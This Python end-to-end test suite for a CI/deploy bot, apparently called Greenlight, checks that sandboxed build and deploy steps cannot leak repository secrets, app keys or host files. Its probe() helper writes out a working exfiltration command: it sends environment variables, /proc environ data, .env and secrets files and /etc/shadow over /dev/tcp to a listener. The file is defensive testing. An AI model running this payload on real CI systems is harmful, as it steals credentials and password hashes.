"""An attacker's pull request, end to end: a build job and a deploy step that hunt for the
app's keys and every secret they can find, and send them to a listener.

Run once sandboxed, where the listener must get nothing but what the job was given, and
once with GREENLIGHT_SANDBOX=none, where the same probe finds the keys: the test that the
probe itself works.
"""

from __future__ import annotations

import hashlib
import html
import logging
import textwrap
from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp
import pytest

from bot.store.deployments import DeploymentRecord, Deployments
from tests.e2e.conftest import Greenlight, start_greenlight
from tests.fakes.github import FakeGitHub
from tests.helpers import WEBHOOK_SECRET, Listener, wait_until
from tests.services import require_sandbox

REPO = "octo/hello"
ASKED = "asked-for-secret-value-1"
NOT_ASKED = "not-asked-secret-value-2"
OTHER_REPO = "other-repository-secret-3"


def probe(canary: str, port: int, paths: list[Path]) -> str:
    """A step that sends everything it can read of Greenlight to 127.0.0.1:`port`."""
    files = " ".join(str(path) for path in paths)
    return (
        f"set +e; exec 3<>/dev/tcp/127.0.0.1/{port}; {{ echo {canary}; env; "
        "for f in /proc/[0-9]*/environ; do tr '\\\\0' '\\\\n' < $f; done; "
        "for d in /proc/[0-9]*/cwd; do cat $d/.env $d/*.yml $d/*.db; done; "
        f"for p in {files}; do find $p -type f -exec cat {{}} +; done; "
        "cat /etc/shadow; } >&3 2>/dev/null; exec 3>&-; true"
    )


async def attacked(
    fake_github: FakeGitHub, tmp_path: Path, listener: Listener, sandbox: str, **options: str
) -> AsyncIterator[Greenlight]:
    """Greenlight with the app's keys in its `.env`, secrets of two repositories in its
    secrets file, and `listener` reachable from the steps (over the host's network)."""
    key = fake_github.private_key_pem
    pem = key.decode() if isinstance(key, bytes) else key
    (tmp_path / ".env").write_text(
        f"GITHUB_WEBHOOK_SECRET={WEBHOOK_SECRET}\nGITHUB_PRIVATE_KEY_BODY={pem.splitlines()[1]}\n"
    )
    secrets = tmp_path / "secrets.yml"
    secrets.write_text(
        f"{REPO}:\n  ASKED: {ASKED}\n  NOT_ASKED: {NOT_ASKED}\nocto/other:\n  TOKEN: {OTHER_REPO}\n"
    )
    server = await start_greenlight(
        fake_github,
        tmp_path,
        GREENLIGHT_SANDBOX=sandbox,
        GREENLIGHT_SANDBOX_NETWORK="host",  # so the probe can reach the test's listener
        GREENLIGHT_SECRETS_FILE=str(secrets),
        **options,
    )
    try:
        yield Greenlight(fake_github, server, tmp_path)
    finally:
        await fake_github.settle()
        await server.close()


def attack_config(greenlight: Greenlight, port: int) -> dict[str, str]:
    settings = greenlight.context.settings
    paths = [
        greenlight.tmp_path,  # .env, the secrets file, the store, a worker's work dir
        settings.work_dir.absolute(),
        greenlight.services.pipeline.sandbox.workspaces(settings.work_dir),
        Path("/var/tmp"),  # where workspaces go when the build user cannot reach the work dir
    ]
    job, deploy = probe("JOB-CANARY", port, paths), probe("DEPLOY-CANARY", port, paths)
    text = textwrap.dedent(f"""
        mode: delivery
        jobs:
          build:
            secrets: [ASKED]
            run: "{job}"
        deploy:
          environments:
            staging:
              secrets: [ASKED]
              run: "{deploy}"
            production:
              run: "true"
    """).lstrip("\n")
    return {".github/greenlight.yml": text}


async def run_the_attack(greenlight: Greenlight, listener: Listener) -> bytes:
    fake = greenlight.fake
    fake.create_repo(REPO, {"README.md": "hi\n"})
    sha = await fake.push(REPO, "main", attack_config(greenlight, listener.port))
    run = await greenlight.run_for(REPO, sha, deadline=60)
    assert run.conclusion == "success"
    await wait_until(
        lambda: b"DEPLOY-CANARY" in listener.received,
        deadline=60,
        message="the deploy step's probe to report",
    )
    await wait_until(lambda: listener.connections >= 2, message="both probes to finish")
    return bytes(listener.received)


async def test_a_sandboxed_probe_finds_nothing_of_greenlight(
    fake_github: FakeGitHub, tmp_path: Path, listener: Listener
) -> None:
    require_sandbox()
    async for greenlight in attacked(fake_github, tmp_path, listener, "bwrap"):
        received = await run_the_attack(greenlight, listener)
    assert_nothing_leaked(received, fake_github)


def assert_nothing_leaked(received: bytes, fake_github: FakeGitHub) -> None:
    """The probes reported, with the secret their job asked for and nothing else."""
    key = fake_github.private_key_pem
    pem = key.decode() if isinstance(key, bytes) else key
    assert b"JOB-CANARY" in received
    assert ASKED.encode() in received  # the job asked for it: its own to use
    for secret in (NOT_ASKED, OTHER_REPO, WEBHOOK_SECRET, pem.splitlines()[1], "root:"):
        assert secret.encode() not in received, secret


async def test_the_same_probe_unsandboxed_finds_the_keys(
    fake_github: FakeGitHub, tmp_path: Path, listener: Listener
) -> None:
    async for greenlight in attacked(fake_github, tmp_path, listener, "none"):
        received = await run_the_attack(greenlight, listener)
    assert NOT_ASKED.encode() in received
    assert OTHER_REPO.encode() in received
    assert WEBHOOK_SECRET.encode() in received


DEPLOY_KEY = "-----BEGIN KEY-----\nfirst-line-of-the-deploy-key\nsecond-line\n-----END KEY-----\n"


async def test_a_deploy_gets_its_key_as_a_file_not_from_the_host(
    fake_github: FakeGitHub, tmp_path: Path
) -> None:
    """What a deploy that used `~/.ssh` of the host does now: `secret_files`."""
    require_sandbox()
    secrets = tmp_path / "secrets.yml"
    key_yaml = "".join(f"    {line}\n" for line in DEPLOY_KEY.splitlines())
    secrets.write_text(f"{REPO}:\n  DEPLOY_KEY: |\n{key_yaml}")
    server = await start_greenlight(
        fake_github, tmp_path, GREENLIGHT_SANDBOX="bwrap", GREENLIGHT_SECRETS_FILE=str(secrets)
    )
    try:
        greenlight = Greenlight(fake_github, server, tmp_path)
        fake_github.create_repo(REPO, {"README.md": "hi\n"})
        config = textwrap.dedent("""
            mode: delivery
            jobs:
              build:
                run: "true"
            deploy:
              environments:
                staging:
                  secret_files: [DEPLOY_KEY]
                  run: 'sha256sum < "$DEPLOY_KEY_FILE"; sed -n 2p "$DEPLOY_KEY_FILE"'
                production:
                  run: "true"
        """).lstrip("\n")
        sha = await fake_github.push(REPO, "main", {".github/greenlight.yml": config})
        await greenlight.run_for(REPO, sha)

        async def logged() -> str | None:
            for record in await deployments_of(greenlight):
                if record.conclusion:
                    return record.conclusion
            return None

        await wait_until(logged, deadline=60, message="the staging deploy to finish")
        (record,) = await deployments_of(greenlight)
        text = await Deployments(greenlight.store.engine).read_log(record.id)
        assert record.conclusion == "success", text
        assert hashlib.sha256(DEPLOY_KEY.encode()).hexdigest() in text
        assert "first-line-of-the-deploy-key" not in text  # each line of it is masked
        assert "***" in text
    finally:
        await fake_github.settle()
        await server.close()


async def deployments_of(greenlight: Greenlight) -> list[DeploymentRecord]:
    store = Deployments(greenlight.store.engine)
    return list(await store.history(REPO, "staging"))


@pytest.mark.parametrize(
    ("sandbox", "said", "level", "logged"),
    [
        (
            "none",
            "Builds run UNSANDBOXED (GREENLIGHT_SANDBOX=none)",
            logging.WARNING,
            "GREENLIGHT_SANDBOX=none: builds run unsandboxed",
        ),
        (
            "bwrap",
            "Builds run in a bubblewrap sandbox, with their own network",
            logging.INFO,
            "Builds run in a bubblewrap sandbox",
        ),
    ],
)
async def test_the_status_page_and_the_log_say_how_builds_are_isolated(
    fake_github: FakeGitHub,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    sandbox: str,
    said: str,
    level: int,
    logged: str,
) -> None:
    if sandbox == "bwrap":
        require_sandbox()
    caplog.set_level(logging.INFO, logger="greenlight.pipeline")
    server = await start_greenlight(fake_github, tmp_path, GREENLIGHT_SANDBOX=sandbox)
    try:
        records = [r for r in caplog.records if r.name == "greenlight.pipeline"]
        async with aiohttp.ClientSession() as session:
            page = await (await session.get(server.make_url("/"))).text()
    finally:
        await server.close()
    assert any(r.levelno == level and r.getMessage().startswith(logged) for r in records)
    assert said in html.unescape(page)
